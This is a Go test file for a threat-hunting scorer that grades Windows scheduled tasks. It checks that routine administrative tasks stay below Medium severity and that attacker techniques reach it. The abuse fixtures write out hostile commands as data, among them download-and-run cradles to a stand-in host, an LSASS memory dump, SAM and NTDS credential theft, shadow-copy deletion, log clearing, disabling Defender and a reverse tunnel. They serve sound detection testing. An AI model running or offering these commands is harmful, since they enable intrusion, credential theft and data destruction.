package score_test

import (
	"strconv"
	"testing"

	"github.com/goshawk-hunt/goshawk/finding"
	"github.com/goshawk-hunt/goshawk/hunt/score"
)

// kind is one way to use the scheduler, as a whole definition with what is around it.
type kind struct {
	what                          string
	name, command, arguments      string
	principal, level, triggers    string
	creator, parent, line, author string // the process that asked, what started it, its command line
	account                       string // "" is SYSTEM's
	devices                       int    // of 40 of the fleet; 0 is 1
}

func (k kind) judge(fleet int) finding.Finding {
	t := with(exec(k.name, k.command, k.arguments), k.principal, k.level, k.triggers)
	t.Author = k.author
	f := score.Facts{Task: &t, Events: map[string]int{"created": 1}, Fleet: fleet, Devices: max(k.devices, 1)}
	if fleet == 0 {
		f.Devices = 1
	}
	if k.account != "" {
		f.Accounts, f.SIDs = []string{k.account}, []string{"S-1-5-21-1-2-3-1001"}
	} else {
		f.Accounts, f.SIDs = []string{"system"}, []string{"S-1-5-18"}
	}
	if k.creator != "" {
		f.Processes = []finding.Process{{Role: "creator", FileName: base(k.creator), FolderPath: k.creator, CommandLine: k.line, Parent: k.parent}}
	}
	v := score.Judge(f)
	out := finding.Finding{Reasons: v.Reasons, Known: v.Known}
	out.Grade()
	return out
}

func base(path string) string {
	for i := len(path) - 1; i >= 0; i-- {
		if path[i] == '\\' {
			return path[i+1:]
		}
	}
	return path
}

const (
	sys   = `C:\Windows\System32\`
	shell = sys + `WindowsPowerShell\v1.0\powershell.exe`
	pf    = `C:\Program Files\`
	pf86  = `C:\Program Files (x86)\`
)

// TestAdministrationStaysBelowMedium holds the score to what administrators and software
// do, alone and on one of a fleet of 40 devices or on all.
func TestAdministrationStaysBelowMedium(t *testing.T) {
	for _, k := range []kind{
		{what: "Configuration Manager's client", name: `\Microsoft\Configuration Manager\Configuration Manager Health Evaluation`, command: `C:\Windows\CCM\ccmeval.exe`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay", author: "Microsoft Corporation", devices: 40},
		{what: "Configuration Manager idle", name: `\Microsoft\Configuration Manager\Configuration Manager Idle Detection`, command: `C:\Windows\CCM\ccmidle.exe`, triggers: "IdleTrigger", devices: 40},
		{what: "policy: script on the domain's share", name: `\Map drives`, command: sys + "wscript.exe", arguments: `//B "\\corp.example\NETLOGON\drives.vbs"`, triggers: "LogonTrigger", creator: sys + "svchost.exe", devices: 40},
		{what: "policy: PowerShell on the domain's share", name: `\Inventory`, command: "powershell.exe", arguments: `-ExecutionPolicy Bypass -File \\corp.example\SYSVOL\corp.example\scripts\inventory.ps1`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay", devices: 40},
		{what: "Chrome's updater", name: `\GoogleUpdaterTaskSystem128.0.6597.0{5C1DE8D8-1A9C-4F32-8062-6E1F475FB2AE}`, command: pf86 + `Google\GoogleUpdater\128.0.6597.0\updater.exe`, arguments: "--wake --system", principal: "S-1-5-18", triggers: "TimeTrigger PT1H", devices: 30},
		{what: "Edge's updater", name: `\MicrosoftEdgeUpdateTaskMachineCore`, command: pf86 + `Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe`, arguments: "/c", principal: "S-1-5-18", level: "HighestAvailable", triggers: "LogonTrigger", devices: 40},
		{what: "OneDrive, per user", name: `\OneDrive Standalone Update Task-S-1-5-21-1-2-3-1001`, command: `%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`, triggers: "TimeTrigger PT24H", author: "Microsoft Corporation", account: "ann", creator: `C:\Users\ann\AppData\Local\Microsoft\OneDrive\OneDrive.exe`},
		{what: "Adobe", name: `\Adobe Acrobat Update Task`, command: pf86 + `Common Files\Adobe\ARM\1.0\AdobeARM.exe`, triggers: "LogonTrigger", author: "Adobe Systems Incorporated", devices: 20},
		{what: "Zoom, per user", name: `\ZoomUpdateTaskUser-S-1-5-21-1-2-3-1001`, command: `C:\Users\ann\AppData\Roaming\Zoom\bin\Zoom.exe`, arguments: "--action=autoupdate", triggers: "LogonTrigger", account: "ann", creator: `C:\Users\ann\AppData\Roaming\Zoom\bin\Zoom.exe`, devices: 12},
		{what: "Teams, per user", name: `\Teams Update`, command: `C:\Users\ann\AppData\Local\Microsoft\Teams\Update.exe`, arguments: `--processStart "Teams.exe"`, triggers: "LogonTrigger", account: "ann", devices: 12},
		{what: "Mozilla", name: `\Mozilla\Firefox Default Browser Agent 308046B0AF4A39CB`, command: pf + `Mozilla Firefox\default-browser-agent.exe`, arguments: `do-task "308046B0AF4A39CB"`, triggers: "TimeTrigger PT24H", account: "ann"},
		{what: "backup software", name: `\Veeam Agent backup`, command: pf + `Veeam\Endpoint Backup\Veeam.EndPoint.Manager.exe`, arguments: "/backup", principal: "S-1-5-18", level: "HighestAvailable", triggers: "CalendarTrigger ScheduleByDay", account: "adm-jo"},
		{what: "robocopy to a share by an administrator", name: `\Backup home`, command: "robocopy.exe", arguments: `D:\Data \\nas01\backup /MIR /R:2 /LOG:C:\Logs\backup.log`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay", account: "adm-jo", creator: sys + "mmc.exe"},
		{what: "Windows backup", name: `\Microsoft\Windows\Backup\Microsoft-Windows-WindowsBackup`, command: `%systemroot%\System32\wbadmin.exe`, arguments: `start backup -templateId:{f11eb3aa-74e7-4ff4-a57b-d8d567ee3f77} -quiet`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay"},
		{what: "database maintenance", name: `\SQL maintenance`, command: pf + `Microsoft SQL Server\150\Tools\Binn\sqlcmd.exe`, arguments: `-S . -E -i "C:\Program Files\Ops\maint.sql"`, account: "adm-db", triggers: "CalendarTrigger ScheduleByWeek", principal: "corp\\svc-sql"},
		{what: "Intune", name: `\Microsoft\Windows\EnterpriseMgmt\5C1DE8D8-1A9C-4F32-8062-6E1F475FB2AE\Schedule #3 created by enrollment client`, command: `%windir%\system32\deviceenroller.exe`, arguments: `/o "5C1DE8D8-1A9C-4F32-8062-6E1F475FB2AE" /c`, principal: "S-1-5-18", triggers: "TimeTrigger PT8H"},
		{what: "Intune's extension", name: `\Microsoft\Intune\Intune Management Extension Health Evaluation`, command: pf86 + `Microsoft Intune Management Extension\ClientHealthEval.exe`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay", devices: 40},
		{what: "a vendor's agent", name: `\Dell SupportAssistAgent AutoUpdate`, command: pf + `Dell\SupportAssistAgent\bin\SupportAssistInstaller.exe`, arguments: "/autoupdate", principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay", devices: 9},
		{what: "HP", name: `\Hewlett-Packard\HP Support Assistant\HP Support Assistant Update Notice`, command: pf86 + `HP\HP Support Framework\Resources\HPSFNotification.exe`, triggers: "LogonTrigger"},
		{what: "NVIDIA", name: `\NvTmRep_CrashReport1_{B2FE1952-0186-46C3-BAEC-A80AA35AC5B8}`, command: pf + `NVIDIA Corporation\NvBackend\NvTmRep.exe`, arguments: "--logon", principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay"},
		{what: "an administrator's script in Program Files", name: `\Ops\Rotate logs`, command: shell, arguments: `-NoProfile -NonInteractive -ExecutionPolicy RemoteSigned -File "C:\Program Files\Ops\Rotate-Logs.ps1"`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay", account: "adm-jo", creator: shell},
		{what: "the same around the execution policy", name: `\Ops\Cleanup`, command: "powershell.exe", arguments: `-ExecutionPolicy Bypass -File "C:\Program Files\Ops\Cleanup.ps1"`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByWeek", account: "adm-jo", creator: shell},
		{what: "an administrator's cmdlet", name: `\Restart spooler`, command: "powershell.exe", arguments: `-NoProfile -Command "Restart-Service Spooler"`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay", account: "adm-jo", creator: sys + "mmc.exe"},
		{what: "a script in a folder of the administrators", name: `\Disk report`, command: "powershell.exe", arguments: `-File C:\Scripts\disk-report.ps1`, principal: `corp\svc-report`, triggers: "CalendarTrigger ScheduleByDay", account: "adm-jo", creator: sys + "mmc.exe"},
		{what: "a batch file in a folder of the administrators", name: `\Nightly copy`, command: `C:\Scripts\copy.cmd`, principal: `corp\svc-copy`, triggers: "CalendarTrigger ScheduleByDay", account: "adm-jo", creator: sys + "schtasks.exe", line: `schtasks /create /tn "Nightly copy" /tr C:\Scripts\copy.cmd /sc daily /ru corp\svc-copy`, parent: `"C:\Windows\System32\cmd.exe"`},
		{what: "shutdown at night", name: `\Shutdown`, command: "shutdown.exe", arguments: "/s /f /t 60", principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay", account: "adm-jo", creator: sys + "schtasks.exe", line: `schtasks /create /tn Shutdown /tr "shutdown /s /f /t 60" /sc daily /ru SYSTEM`},
		{what: "policy update once", name: `\gpupdate`, command: "gpupdate.exe", arguments: "/force", principal: "S-1-5-18", triggers: "TimeTrigger", account: "adm-jo"},
		{what: "a developer's build on another drive", name: `\Build`, command: `D:\src\tools\build.exe`, arguments: "--nightly", triggers: "CalendarTrigger ScheduleByDay", account: "dev", creator: sys + "schtasks.exe"},
		{what: "node from Program Files", name: `\Dashboard`, command: pf + `nodejs\node.exe`, arguments: `"C:\Program Files\Dashboard\server.js"`, triggers: "BootTrigger", principal: "S-1-5-18", account: "adm-jo"},
		{what: "python of a user", name: `\Report`, command: `C:\Python312\python.exe`, arguments: `C:\Scripts\report.py`, triggers: "CalendarTrigger ScheduleByDay", account: "ann"},
		{what: "monitoring every five minutes", name: `\Zabbix check`, command: pf + `Zabbix Agent\check.exe`, principal: "S-1-5-18", triggers: "TimeTrigger PT5M"},
		{what: "antivirus", name: `\Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan`, command: `C:\ProgramData\Microsoft\Windows Defender\platform\4.18.2108.7-0\MpCmdRun.exe`, arguments: "Scan -ScheduleJob -ScanTrigger 55", principal: "S-1-5-18", triggers: "CalendarTrigger"},
		{what: "Office", name: `\Microsoft\Office\Office Feature Updates`, command: pf + `Common Files\Microsoft Shared\ClickToRun\sdxhelper.exe`, triggers: "LogonTrigger", devices: 40},
		{what: "a web certificate", name: `\win-acme renew (acme-v02.api.letsencrypt.org)`, command: `C:\Program Files\win-acme\wacs.exe`, arguments: `--renew --baseuri "https://acme-v02.api.letsencrypt.org/"`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByDay", account: "adm-jo", creator: `C:\Program Files\win-acme\wacs.exe`},
		{what: "a tidy-up of temp files", name: `\Clean temp`, command: "cmd.exe", arguments: `/c del /q /s C:\Windows\Temp\*.log`, principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByWeek", account: "adm-jo"},
		{what: "dism", name: `\Component cleanup`, command: "dism.exe", arguments: "/online /cleanup-image /startcomponentcleanup", principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByMonth", account: "adm-jo"},
		{what: "defrag", name: `\Defrag D`, command: `%windir%\system32\defrag.exe`, arguments: "D: /O", principal: "S-1-5-18", triggers: "CalendarTrigger ScheduleByWeek", account: "adm-jo"},
		{what: "time", name: `\Time resync`, command: "w32tm.exe", arguments: "/resync", principal: "S-1-5-19", triggers: "CalendarTrigger ScheduleByDay", account: "adm-jo"},
		{what: "a job of PowerShell", name: `\Service restart`, command: "pwsh.exe", arguments: `-NoProfile -File "C:\Program Files\Ops\restart.ps1"`, principal: "S-1-5-18", triggers: "BootTrigger", account: "adm-jo", creator: pf + `PowerShell\7\pwsh.exe`},
	} {
		for _, fleet := range []int{0, 8, 40} {
			if f := k.judge(fleet); f.Severity >= finding.Medium {
				t.Errorf("%s, %d devices: %v (%d): %v", k.what, fleet, f.Severity, f.Score, said(f))
			}
		}
	}
}

// TestComClasses holds that a class of a known task says nothing, one that a person
// brought much, and one in Windows' own folder little: versions of Windows differ.
func TestComClasses(t *testing.T) {
	judged := func(name, class, account string) finding.Finding {
		task := with(finding.Task{Name: name, Actions: []finding.TaskAction{{Kind: "ComHandler", ClassID: class}}}, "S-1-5-18", "", "LogonTrigger")
		f := score.Facts{Task: &task, Events: map[string]int{"created": 1}, Accounts: []string{account}, SIDs: []string{"S-1-5-21-1-2-3-1001"}}
		if account == "system" {
			f.SIDs = []string{"S-1-5-18"}
		}
		v := score.Judge(f)
		out := finding.Finding{Reasons: v.Reasons, Known: v.Known}
		out.Grade()
		return out
	}
	const unknown, cache = "{0A0B0C0D-0001-0002-0003-000000000004}", "{0358B920-0AC7-461F-98F4-58E32CD89148}"
	if f := judged(`\Sync`, unknown, "ann"); f.Severity < finding.Medium {
		t.Errorf("a class that a user brought: %v %v", f.Severity, said(f))
	}
	if f := judged(`\Vendor\Sync`, unknown, "system"); f.Severity >= finding.Medium {
		t.Errorf("a vendor's class: %v %v", f.Severity, said(f))
	}
	if f := judged(`\Microsoft\Windows\Shell\New in this version`, unknown, "system"); f.Severity >= finding.Low {
		t.Errorf("a class of Windows: %v %v", f.Severity, said(f))
	}
	if f := judged(`\Microsoft\Windows\Wininet\CacheTask`, cache, "system"); f.Score > 8 {
		t.Errorf("a known class: %d %v", f.Score, said(f))
	}
}

// said writes the reasons short.
func said(f finding.Finding) []string {
	var out []string
	for _, r := range f.Reasons {
		out = append(out, string(r.Property)+" "+strconv.Itoa(r.Points)+" "+finding.Shorten(r.Text, 70))
	}
	return out
}

// TestAbuseReachesMedium holds the score to what attackers do with the scheduler, by the
// definition and by who asked alone: no fleet, no run, no other hunt.
func TestAbuseReachesMedium(t *testing.T) {
	for _, k := range []kind{
		{what: "startup script as SYSTEM", name: `\T1053_005_OnStartup`, command: "cmd.exe", arguments: "/c calc.exe", principal: "S-1-5-18", triggers: "BootTrigger", account: "ann", creator: sys + "schtasks.exe", line: `schtasks /create /tn "T1053_005_OnStartup" /sc onstart /ru system /tr "cmd.exe /c calc.exe"`, parent: "cmd.exe"},
		{what: "once, a shell", name: `\spawn`, command: sys + "cmd.exe", triggers: "once", account: "ann", creator: sys + "schtasks.exe", line: `schtasks /Create /SC ONCE /TN spawn /TR C:\windows\system32\cmd.exe /ST 20:10`, parent: "powershell.exe -c x"},
		{what: "remote with schtasks", name: `\Task`, command: sys + "cmd.exe", triggers: "daily", account: "ann", creator: sys + "schtasks.exe", line: `schtasks /Create /S fs01 /RU corp\adm /RP x /TN "Task" /TR C:\windows\system32\cmd.exe /SC daily`},
		{what: "payload in the registry", name: `\ATOMIC-T1053.005`, command: "cmd.exe", arguments: `/c start /min "" powershell.exe -Command IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((Get-ItemProperty -Path HKCU:\SOFTWARE\ATOMIC).test)))`, triggers: "daily", account: "ann"},
		{what: "atexec", name: `\tPqWxYzA`, command: "cmd.exe", arguments: `/C ipconfig > %windir%\Temp\tPqWxYzA.tmp 2>&1`, principal: "S-1-5-18", level: "HighestAvailable", triggers: "CalendarTrigger", account: "adm"},
		{what: "smbexec's way", name: `\BTOBTO`, command: "cmd.exe", arguments: `/Q /c cd > \\127.0.0.1\C$\__output 2>&1`, principal: "S-1-5-18", account: "adm"},
		{what: "SharPersist", name: `\Some Task`, command: sys + "cmd.exe", arguments: `/c calc.exe`, triggers: "TimeTrigger PT1H", account: "ann", creator: `C:\Users\ann\Downloads\SharPersist.exe`, line: `SharPersist.exe -t schtask -c "C:\Windows\System32\cmd.exe" -a "/c calc.exe" -n "Some Task" -m add -o hourly`},
		{what: "Empire", name: `\Updater`, command: shell, arguments: `-NonI -W hidden -c "IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKLM:\Software\Microsoft\Network debug).debug)))"`, principal: "S-1-5-18", triggers: "daily", account: "ann"},
		{what: "encoded", name: `\Sync`, command: "powershell", arguments: "-ep bypass -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", triggers: "LogonTrigger", account: "ann"},
		{what: "mshta", name: `\Reader`, command: "mshta", arguments: `vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")`, account: "ann"},
		{what: "mshta with a file", name: `\Mail check`, command: sys + "mshta.exe", arguments: `C:\ProgramData\check.hta`, triggers: "TimeTrigger PT60M", account: "ann"},
		{what: "regsvr32 with a scriptlet", name: `\Reg`, command: "regsvr32.exe", arguments: `/s /n /u /i:http://203.0.113.9/a.sct scrobj.dll`, account: "ann"},
		{what: "regsvr32 with a library of a user", name: `\Font cache`, command: "regsvr32.exe", arguments: `/s C:\Users\ann\AppData\Roaming\Fonts\cache.dll`, triggers: "LogonTrigger", account: "ann"},
		{what: "rundll32 with a library", name: `\Net sync`, command: "rundll32.exe", arguments: `C:\ProgramData\netsync.dll,Start`, principal: "S-1-5-18", triggers: "BootTrigger", account: "ann"},
		{what: "rundll32 with a library that is none", name: `\Prefs`, command: "rundll32.exe", arguments: `C:\Users\Public\data.txt,#1`, account: "ann"},
		{what: "msbuild", name: `\Build`, command: `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe`, arguments: `C:\ProgramData\b.xml`, account: "ann"},
		{what: "installutil", name: `\Install`, command: `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe`, arguments: `/logfile= /U C:\Users\ann\AppData\Local\x.dll`, account: "ann"},
		{what: "wscript from ProgramData", name: `\Reports`, command: "wscript.exe", arguments: `//E:vbscript C:\ProgramData\report.txt`, triggers: "TimeTrigger PT10M", account: "ann"},
		{what: "cscript of a user", name: `\Backup agent`, command: "cscript.exe", arguments: `//B C:\Users\ann\AppData\Roaming\agent.js`, triggers: "LogonTrigger", account: "ann"},
		{what: "certutil", name: `\Cert`, command: "certutil.exe", arguments: `-urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe`, account: "ann"},
		{what: "bitsadmin", name: `\Transfer`, command: "bitsadmin.exe", arguments: `/transfer n http://203.0.113.9/a.exe C:\Windows\Temp\a.exe`, account: "ann"},
		{what: "curl piped", name: `\Metrics`, command: "cmd.exe", arguments: `/c curl -s http://203.0.113.9/m | cmd`, triggers: "TimeTrigger PT5M", account: "ann"},
		{what: "curl and run", name: `\Metrics`, command: "cmd.exe", arguments: `/c curl http://203.0.113.9/m.exe -o %TEMP%\m.exe && %TEMP%\m.exe`, account: "ann"},
		{what: "forfiles", name: `\Maintenance`, command: "forfiles.exe", arguments: `/p c:\windows\system32 /m notepad.exe /c "cmd /c C:\Users\Public\a.exe"`, account: "ann"},
		{what: "pcalua", name: `\Compat`, command: "pcalua.exe", arguments: `-a C:\Users\Public\a.exe`, account: "ann"},
		{what: "conhost", name: `\Console`, command: "conhost.exe", arguments: `--headless cmd /c C:\ProgramData\a.bat`, account: "ann"},
		{what: "a share", name: `\Agent`, command: `\\203.0.113.9\share\a.exe`, triggers: "LogonTrigger", account: "ann"},
		{what: "WebDAV", name: `\Agent`, command: "rundll32.exe", arguments: `\\203.0.113.9@80\DavWWWRoot\a.dll,Entry`, account: "ann"},
		{what: "a program of a web server", name: `\Agent`, command: `\\files@SSL@8443\DavWWWRoot\a.exe`, account: "ann"},
		{what: "Public", name: `\Adobe Flash Updater`, command: `C:\Users\Public\flash.exe`, triggers: "LogonTrigger", account: "ann"},
		{what: "Temp", name: `\Chrome`, command: `C:\Users\ann\AppData\Local\Temp\chrome.exe`, triggers: "TimeTrigger PT1M", account: "ann"},
		{what: "ProgramData as SYSTEM", name: `\Intel Telemetry`, command: `C:\ProgramData\Intel\igfx.exe`, principal: "S-1-5-18", triggers: "BootTrigger", account: "ann"},
		{what: "AppData at logon with the highest privileges", name: `\Skype Helper`, command: `C:\Users\ann\AppData\Roaming\Skype\helper.exe`, level: "HighestAvailable", triggers: "LogonTrigger", account: "ann"},
		{what: "AppData every few minutes", name: `\Nvidia cache`, command: `C:\Users\ann\AppData\Roaming\nv\cache.exe`, triggers: "TimeTrigger PT2M", account: "ann"},
		{what: "a folder of Windows without programs", name: `\Font refresh`, command: `C:\Windows\Media\refresh.exe`, principal: "S-1-5-18", account: "ann"},
		{what: "beside the programs of Windows", name: `\Disk service`, command: `C:\Windows\disksvc.exe`, principal: "S-1-5-18", triggers: "BootTrigger", account: "ann"},
		{what: "beside the folders of AppData", name: `\Reader sync`, command: `%APPDATA%\sync.exe`, triggers: "LogonTrigger", account: "ann"},
		{what: "a copy of a program of Windows", name: `\Display setup`, command: `C:\Users\ann\AppData\Roaming\Setup\SystemPropertiesAdvanced.exe`, triggers: "TimeTrigger PT60M", account: "ann"},
		{what: "a batch file of a user", name: `\Clipboard`, command: `C:\Users\ann\AppData\Roaming\Clip\run.cmd`, triggers: "LogonTrigger", account: "ann"},
		{what: "a miner", name: `\Service host`, command: `C:\Program Files\Host\host.exe`, arguments: `--url stratum+tcp://203.0.113.9:3333 --user x`, account: "ann"},
		{what: "a wiper", name: `\Tidy`, command: "cmd.exe", arguments: `/c del /f /s /q C:\Users`, principal: "S-1-5-18", account: "ann"},
		{what: "temp every half hour", name: `\Agent`, command: `%TEMP%\agent.exe`, triggers: "TimeTrigger PT30M", account: "ann", creator: sys + "schtasks.exe"},
		{what: "PerfLogs", name: `\Perf`, command: `C:\PerfLogs\p.exe`, account: "ann"},
		{what: "Windows' temp folder", name: `\Update Health`, command: `C:\Windows\Temp\uh.exe`, principal: "S-1-5-18", account: "ann"},
		{what: "the recycle bin", name: `\Cleanup`, command: `C:\$Recycle.Bin\S-1-5-21-1-2-3-1001\c.exe`, account: "ann"},
		{what: "masquerade in ProgramData", name: `\Microsoft\Windows\Wininet\CacheTask`, command: `C:\ProgramData\Microsoft\svchost.exe`, principal: "S-1-5-18", account: "ann"},
		{what: "a known name over another program", name: `\MicrosoftEdgeUpdateTaskMachineCore`, command: `C:\Users\ann\AppData\Local\Microsoft\Edge\msedgeupdate.exe`, triggers: "LogonTrigger", account: "ann"},
		{what: "a fake folder of Windows", name: `\Microsoft\Windows\Updates\Check`, command: `C:\ProgramData\check.exe`, principal: "S-1-5-18", account: "ann"},
		{what: "a double extension", name: `\Invoice`, command: `C:\Users\ann\Documents\invoice.pdf.exe`, account: "ann"},
		{what: "two alphabets", name: "\\Googlе Update", command: `C:\Users\ann\AppData\Local\gu.exe`, account: "ann"},
		{what: "Office asked", name: `\Word sync`, command: "wscript.exe", arguments: `C:\Users\ann\AppData\Local\s.vbs`, account: "ann", creator: pf + `Microsoft Office\root\Office16\WINWORD.EXE`},
		{what: "a web server asked", name: `\Health`, command: `C:\inetpub\wwwroot\h.exe`, principal: "S-1-5-18", account: "ann", creator: sys + "schtasks.exe", line: `schtasks /create /tn Health /tr C:\inetpub\wwwroot\h.exe /sc onstart /ru SYSTEM`, parent: `c:\windows\system32\inetsrv\w3wp.exe -ap "x"`},
		{what: "a definition from a temp folder", name: `\Telemetry`, command: "cmd.exe", arguments: "/c whoami", account: "ann", creator: sys + "schtasks.exe", line: `schtasks /create /tn Telemetry /xml C:\Users\ann\AppData\Local\Temp\t.xml`},
		{what: "a renamed schtasks", name: `\Helper`, command: sys + "cmd.exe", arguments: "/c start notepad", account: "ann", creator: `C:\Users\Public\st.exe`, line: `st.exe /create /tn Helper /tr "cmd /c start notepad" /sc onlogon`},
		{what: "shadow copies", name: `\Clean`, command: "vssadmin.exe", arguments: "delete shadows /all /quiet", principal: "S-1-5-18", account: "ann"},
		{what: "event logs", name: `\Clean`, command: "cmd.exe", arguments: `/c wevtutil cl Security & wevtutil cl System`, principal: "S-1-5-18", account: "ann"},
		{what: "an account", name: `\Acc`, command: "net.exe", arguments: "user helper P4ss /add", principal: "S-1-5-18", account: "ann"},
		{what: "a hive of credentials", name: `\Save`, command: "reg.exe", arguments: `save HKLM\SAM C:\Windows\Temp\s`, principal: "S-1-5-18", account: "ann"},
		{what: "ntds", name: `\Dump`, command: "cmd.exe", arguments: `/c ntdsutil "ac i ntds" "ifm" "create full c:\temp\d" q q`, principal: "S-1-5-18", account: "ann"},
		{what: "lsass", name: `\Diag`, command: "rundll32.exe", arguments: `C:\windows\system32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full`, principal: "S-1-5-18", account: "ann"},
		{what: "Defender off", name: `\Perf`, command: "powershell.exe", arguments: "Set-MpPreference -DisableRealtimeMonitoring $true", principal: "S-1-5-18", account: "ann"},
		{what: "a tunnel", name: `\Remote help`, command: `C:\Windows\System32\OpenSSH\ssh.exe`, arguments: `-N -R 4444:127.0.0.1:3389 a@203.0.113.9`, principal: "S-1-5-18", account: "ann"},
		{what: "an alternate stream", name: `\Log`, command: "wscript.exe", arguments: `C:\ProgramData\log.txt:a.vbs`, account: "ann"},
		{what: "python of a user hidden", name: `\Syncer`, command: `C:\Users\ann\AppData\Local\Programs\Python\pythonw.exe`, arguments: `C:\Users\ann\AppData\Local\s.py`, triggers: "TimeTrigger PT5M", account: "ann"},
		{what: "AutoIt", name: `\Driver`, command: `C:\ProgramData\drv\AutoIt3.exe`, arguments: `C:\ProgramData\drv\a.au3`, triggers: "LogonTrigger", account: "ann"},
		{what: "at", name: `\At1`, command: "cmd.exe", arguments: "/c C:\\Users\\Public\\a.bat", principal: "S-1-5-18", account: "ann"},
		{what: "a bare name, known to nobody", name: `\Sys check`, command: "sysck", principal: "S-1-5-18", triggers: "BootTrigger", account: "ann"},
		{what: "PowerShell from a user's folder", name: `\Mail`, command: "powershell.exe", arguments: `-ExecutionPolicy Bypass -File C:\Users\ann\AppData\Roaming\m.ps1`, triggers: "LogonTrigger", account: "ann"},
		{what: "PowerShell hidden", name: `\Desktop`, command: "powershell.exe", arguments: `-WindowStyle Hidden -File C:\Users\Public\d.ps1`, triggers: "LogonTrigger", account: "ann"},
		{what: "a download cradle", name: `\Feed`, command: "powershell.exe", arguments: `-c "iex (iwr http://203.0.113.9/a.ps1 -UseBasicParsing)"`, account: "ann"},
		{what: "msiexec from the net", name: `\MSI`, command: "msiexec.exe", arguments: `/q /i http://203.0.113.9/a.msi`, principal: "S-1-5-18", account: "ann"},
		{what: "a LOLBin that downloads", name: `\Lock screen`, command: "desktopimgdownldr.exe", arguments: `/lockscreenurl:http://203.0.113.9/a.exe /eventName:x`, account: "ann"},
		{what: "explorer as a proxy", name: `\Open`, command: "explorer.exe", arguments: `/root,"C:\Users\Public\a.exe"`, account: "ann"},
		{what: "wmic", name: `\Proc`, command: "wmic.exe", arguments: `process call create "C:\Users\Public\a.exe"`, account: "ann"},
		{what: "a variable turned", name: `\Microsoft\Windows\DiskCleanup\SilentCleanup`, command: `C:\Windows\system32\cmd.exe`, arguments: `/c start C:\Users\ann\a.exe \system32\cleanmgr.exe /autoclean /d C:`, account: "ann"},
	} {
		if f := k.judge(0); f.Severity < finding.Medium {
			t.Errorf("%s: %v (%d): %v", k.what, f.Severity, f.Score, said(f))
		}
	}
}
